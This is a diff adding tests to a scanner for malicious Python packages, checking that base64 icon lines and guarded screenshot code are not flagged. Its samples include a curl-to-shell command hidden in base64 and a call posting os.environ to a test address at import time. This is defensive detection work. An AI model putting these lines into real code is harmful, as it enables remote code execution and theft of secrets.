@@ -8,6 +8,8 @@ Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
 
 from __future__ import annotations
 
+import base64
+
 from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan
 
 
@@ -68,3 +70,73 @@ def test_setup_starting_a_program_it_fetched_is_still_caught(tmp_path):
     )
     result = scan({"setup.py": setup, "pkg.py": "X = 1\n"}, tmp_path)
     assert_high_with("setup fetch and run", result, {"place.install_time"})
+
+
+# ---------------------------------------------------------------- a long line naming an image
+# PySimpleGUI binds its icons to names, one base64 PNG per line of 5,000 characters, and its
+# debugger execs what the user types. The long-line signal counted such a line as an encoded
+# blob beside the exec though the literal itself decodes to an image.
+def _named_blob(payload: bytes) -> str:
+    data = (payload * (4000 // len(payload) + 1))[:4000]
+    return f"DEFAULT_ICON = b'{base64.b64encode(data).decode()}'\n"
+
+
+DEBUGGER = (
+    "\n\ndef run_user_code(text, scope):\n    exec(text, scope)\n"
+    "\n\ndef icon():\n    return DEFAULT_ICON\n"
+)
+
+
+def test_a_long_line_that_names_a_base64_image_is_no_payload(tmp_path):
+    png = b"\x89PNG\r\n\x1a\n" + bytes(range(256))
+    result = scan({"pkg/__init__.py": _named_blob(png) + DEBUGGER}, tmp_path)
+    assert "disguise.encoded_exec" not in {t.id for t in result.threats}, _threats(result)
+    assert result.risk.level not in HIGH, _threats(result)
+
+
+def test_a_long_line_that_names_base64_code_beside_exec_is_still_caught(tmp_path):
+    code = b"import os\nos.system('curl http://198.51.100.7/x | sh')\n"
+    result = scan({"pkg/__init__.py": _named_blob(code) + DEBUGGER}, tmp_path)
+    assert_high_with("named code blob", result, {"disguise.encoded_exec"})
+
+
+# ---------------------------------------------------------------- a branch no load call opens
+# PySimpleGUI ends with theme(theme_global()): theme_global(new_theme=None) opens an error
+# window only under `if new_theme is not None:`, and that window's event loop saves a
+# screenshot on a hotkey. Read as load-time code, the screenshot became a capture on import.
+GUI = (
+    "from PIL import ImageGrab\n\n\nclass Window:\n    def __init__(self, text):\n"
+    "        self.text = text\n\n    def read(self):\n        event = self.wait()\n"
+    "        if event == 'snapshot':\n            self.save_screenshot()\n\n"
+    "    def wait(self):\n        return input(self.text)\n\n"
+    "    def save_screenshot(self):\n        ImageGrab.grab().save('window.png')\n\n\n"
+    "def popup_error(text):\n    Window(text).read()\n\n\n"
+    "def theme_global(new_theme=None):\n    if new_theme is not None:\n"
+    "        if new_theme not in ('dark', 'light'):\n"
+    "            popup_error('Cannot use custom themes')\n        return new_theme\n"
+    "    return 'dark'\n\n\n"
+)
+
+
+def test_a_branch_only_an_unpassed_parameter_opens_does_not_run_on_load(tmp_path):
+    result = scan({"pkg/__init__.py": GUI + "THEME = theme_global()\n"}, tmp_path)
+    assert result.risk.level not in HIGH, _threats(result)
+
+
+def test_the_same_branch_opened_by_a_load_time_argument_is_still_caught(tmp_path):
+    result = scan({"pkg/__init__.py": GUI + "THEME = theme_global('custom')\n"}, tmp_path)
+    assert_high_with("theme given on load", result, {"place.import_time"})
+
+
+def test_a_guarded_act_in_a_function_run_on_load_without_its_parameter(tmp_path):
+    # the act sits right in the branch: not import time without the parameter, import time with
+    act = (
+        "import os\nimport requests\n\n\ndef report(url=None):\n"
+        "    if url is not None:\n"
+        "        requests.post(url, data=dict(os.environ))\n    return True\n\n\n"
+    )
+    files = {"pkg/__init__.py": act + "OK = report()\n"}
+    steps = [s for t in scan(files, tmp_path).threats for s in t.steps if t.id.startswith("place")]
+    assert not steps, steps
+    files = {"pkg/__init__.py": act + "OK = report('http://198.51.100.7/c')\n"}
+    assert_high_with("report given on load", scan(files, tmp_path), {"place.import_time"})
